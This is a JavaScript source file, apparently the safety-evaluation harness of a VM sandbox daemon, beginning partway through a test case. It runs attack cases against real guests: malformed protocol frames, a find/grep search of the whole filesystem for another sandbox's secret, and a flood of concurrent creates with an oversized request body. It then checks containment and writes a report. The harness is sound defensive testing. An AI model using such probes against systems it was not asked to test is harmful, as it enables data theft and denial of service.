        payload.copy(b, 9);
        return b;
      };
      const attacks = [
        (s) => s.write(Buffer.from([0xff, 0xff, 0xff, 0x7f, 0x84])),
        (s, id) => s.write(frame(0x99, id)),
        (s, id) => {
          s.write(frame(T.PONG, id, Buffer.from('airlock')).subarray(0, 7));
          s.end();
        },
      ];
      let next;
      const server = createServer((sock) => {
        const split = new FrameSplitter();
        sock.on('error', () => {});
        sock.on('data', (d) => {
          for (const f of split.push(d)) {
            if (f.type === T.HELLO) {
              const v = Buffer.alloc(4);
              v.writeUInt32LE(1, 0);
              sock.write(frame(T.READY, 0, Buffer.concat([v, f.payload])));
            } else if (f.type === T.PING) {
              const m = next;
              next = undefined;
              if (m) m(sock, f.id);
              else sock.write(frame(T.PONG, f.id, f.payload));
            }
          }
        });
      });
      await new Promise((r) => server.listen(path, r));
      const ch = new GuestChannel(() => connectUnix(path));
      const codes = [];
      try {
        await ch.handshake(Date.now() + 5000);
        for (const a of attacks) {
          next = a;
          await ch.ping(3000).then(
            () => codes.push('answered'),
            (e) => codes.push(e.code),
          );
          await ch.settled();
        }
        const works = (await ch.ping(3000)) >= 0;
        return ok(
          codes.every((c) => c === 'guest_protocol' || c === 'guest_lost') && works,
          `errors: ${codes.join(', ')}; ${ch.resets} resets; channel answers afterwards`,
        );
      } finally {
        ch.close();
        server.close();
        rmSync(dir, { recursive: true, force: true });
      }
    },
  },
  {
    name: 'cross-sandbox file access',
    attack:
      "sandbox A writes a secret; sandbox B searches its whole filesystem for it; A's VM monitor looks for B's files on the host",
    expected:
      "B never sees A's files (separate writable layers, no shared host directory); each jailed monitor sees only its own socket directory",
    async run({ client, create, stateDir, sh }) {
      const secret = `secret-${randomBytes(6).toString('hex')}`;
      await client.exec(sh, { code: `echo ${secret} > /root/${secret}; echo ${secret} > /tmp/${secret}` });
      const b = await create({ language_pack: 'shell' });
      const r = await client.exec(b.id, {
        code: `find / -xdev -name '${secret}*' 2>/dev/null; grep -rl ${secret} /root /tmp 2>/dev/null; echo done`,
        timeout_ms: 60_000,
      });
      const aPid = Number((await client.inspect(sh)).vm_pid);
      let hostView = 'not jailed';
      try {
        hostView = existsSync(`/proc/${aPid}/root${stateDir}/${b.id}`)
          ? "B's directory visible"
          : "B's directory absent";
      } catch {
        hostView = 'unreadable';
      }
      return ok(
        r.stdout.trim() === 'done' && hostView !== "B's directory visible",
        `B found nothing; from A's monitor: ${hostView}`,
      );
    },
  },
  {
    name: 'daemon exhaustion by many creates',
    attack: `${MAX_SANDBOXES + 5} concurrent creates against a daemon allowing ${MAX_SANDBOXES} sandboxes, plus an oversized request body`,
    expected:
      'creates past the limit fail at once with `429 capacity_exceeded` (boots in flight count); a 5 MiB body gets `413`; the daemon and the bystander keep answering',
    async run({ client, manager }) {
      const results = await Promise.allSettled(
        Array.from({ length: MAX_SANDBOXES + 5 }, () => client.create({ language_pack: 'shell' })),
      );
      const made = results.filter((r) => r.status === 'fulfilled').map((r) => r.value.id);
      const refused = results.filter((r) => r.status === 'rejected' && r.reason.code === 'capacity_exceeded').length;
      const live = manager.list().filter((s) => s.state === 'running').length;
      let big = '';
      try {
        await client.create({ language_pack: 'shell', env: { X: 'x'.repeat(5 << 20) } });
      } catch (e) {
        big = e.code;
      }
      await Promise.all(made.map((id) => client.delete(id)));
      return ok(
        live <= MAX_SANDBOXES && refused >= 5 && big === 'payload_too_large',
        `${made.length} created, ${refused} refused with capacity_exceeded, at most ${live} running; oversized body: ${big}`,
      );
    },
  },
];

async function main() {
  const imageDir =
    process.env.AIRLOCK_IMAGE_CACHE ??
    (existsSync('/var/cache/airlock-images/manifest.json') ? '/var/cache/airlock-images' : imageCacheDir());
  const stateDir = mkdtempSync(join(tmpdir(), 'aleval-'));
  const selected = cases.filter((c) => (only.length ? only.includes(c.name) : !short || c.short));
  const egressEnv = selected.some((c) => c.name === 'egress beyond the allowlist') ? await startEgressEnv() : undefined;
  const manager = await SandboxManager.open({
    imageDir,
    stateDir,
    buildImages: true,
    maxSandboxes: MAX_SANDBOXES,
    defaultMemoryMb: 192,
    ...(process.env.AIRLOCK_EVAL_ACCEL ? { accel: process.env.AIRLOCK_EVAL_ACCEL } : {}),
    progress: (s, n, m) => process.stderr.write(`[images ${s}/${n}] ${m}\n`),
    ...(egressEnv ? { egress: { dnsServers: [egressEnv.dns.server], upstreamCaCerts: [egressEnv.far.caPem] } } : {}),
  });
  const server = createSandboxServer(manager);
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  const client = new SandboxClient(`127.0.0.1:${server.address().port}`);
  const info = await client.info();
  const extra = [];
  const create = async (body) => {
    const sb = await client.create(body);
    extra.push(sb.id);
    return sb;
  };
  const results = [];
  try {
    const bystander = (await client.create({ language_pack: 'shell' })).id;
    const sh = (await client.create({ language_pack: 'shell', max_procs: 64, rw_mb: 16 })).id;
    const py = (await client.create({ language_pack: 'python' })).id;
    for (const c of selected) {
      const started = Date.now();
      let r;
      try {
        r = await c.run({ client, manager, stateDir, py, sh, bystander, create, egressEnv });
      } catch (e) {
        r = { contained: false, observed: `harness error: ${e.code ?? ''} ${e.message}` };
      }
      let bystanderOk = false;
      let bystanderError = '';
      try {
        bystanderOk = (await client.exec(bystander, { code: 'echo ok' })).stdout === 'ok\n';
      } catch (e) {
        bystanderError = ` (${e.code ?? ''} ${e.message})`;
      }
      for (const id of extra.splice(0)) await client.delete(id).catch(() => {});
      const res = {
        name: c.name,
        attack: c.attack,
        expected: c.expected,
        observed: `${r.observed}${bystanderOk ? '' : `; BYSTANDER STOPPED ANSWERING${bystanderError}`}`,
        contained: r.contained && bystanderOk,
        ms: Date.now() - started,
      };
      results.push(res);
      if (!json)
        process.stdout.write(
          `${res.contained ? 'CONTAINED' : 'NOT CONTAINED'}  ${c.name} — ${res.observed} (${res.ms} ms)\n`,
        );
    }
  } finally {
    await manager.close();
    server.closeAllConnections();
    server.close();
    await egressEnv?.close();
    rmSync(stateDir, { recursive: true, force: true });
  }
  const failed = results.filter((r) => !r.contained).length;
  if (json) process.stdout.write(`${JSON.stringify({ info, results }, null, 2)}\n`);
  else
    process.stdout.write(
      failed === 0 ? `all ${results.length} cases contained\n` : `${failed} of ${results.length} cases NOT contained\n`,
    );
  if (!short && only.length === 0) writeReport(info, results);
  process.exitCode = failed === 0 ? 0 : 1;
}

function writeReport(info, results) {
  const jail = info.jail ?? { level: 'none', properties: [] };
  const esc = (s) => String(s).replaceAll('|', '\\|').replaceAll('\n', ' ');
  const lines = [
    '# Sandbox safety evaluation',
    '',
    `Written by \`npm run eval\` (\`eval/run.mjs\`) on ${new Date().toISOString().slice(0, 10)}: backend ${info.backend}, ` +
      `isolation ${info.isolation}, accelerator ${info.accel}, jail level ${jail.level}` +
      ` (${jail.properties.filter((p) => p.in_effect).length} of ${jail.properties.length} properties in effect). ` +
      'Each case runs against a real daemon with real QEMU guests; a bystander sandbox must answer after every case. ' +
      'A short subset runs in `npm test` (`packages/sandbox/src/e2e/safety-eval.test.ts`).',
    '',
    `**${results.filter((r) => r.contained).length} of ${results.length} cases contained.**`,
    '',
    '| case | attack | expected outcome | observed | contained |',
    '|---|---|---|---|---|',
    ...results.map(
      (r) =>
        `| ${esc(r.name)} | ${esc(r.attack)} | ${esc(r.expected)} | ${esc(r.observed)} | ${r.contained ? 'yes' : '**NO**'} |`,
    ),
    '',
    'Jail properties of the VM monitor in this run (see `docs/sandbox.md`, "Isolation layers"):',
    '',
    ...jail.properties.map((p) => `- ${p.in_effect ? 'in effect' : '**not in effect**'}: ${p.property} — ${p.detail}`),
    '',
  ];
  writeFileSync(join(here, '..', 'docs', 'safety-eval.md'), lines.join('\n'));
  process.stderr.write('wrote docs/safety-eval.md\n');
}

await main();
